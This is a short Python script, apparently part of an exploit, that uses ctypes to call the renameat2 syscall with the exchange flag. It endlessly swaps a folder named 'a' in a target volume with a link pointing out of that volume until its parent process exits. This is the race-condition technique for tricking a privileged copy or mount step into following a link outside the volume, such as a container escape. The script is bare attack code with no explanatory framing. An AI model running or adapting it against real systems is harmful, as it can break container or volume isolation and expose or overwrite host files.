"""Swaps the folder `a` of a volume and a link out of it, without end: `swap.py VOLUME`."""

import ctypes
import os
import sys

libc = ctypes.CDLL(None)
number = 316 if os.uname().machine == "x86_64" else 276
os.chdir(sys.argv[1])
print("swapping", flush=True)
while os.getppid() != 1:
    libc.syscall(number, -100, b"a", -100, b"b", 2)
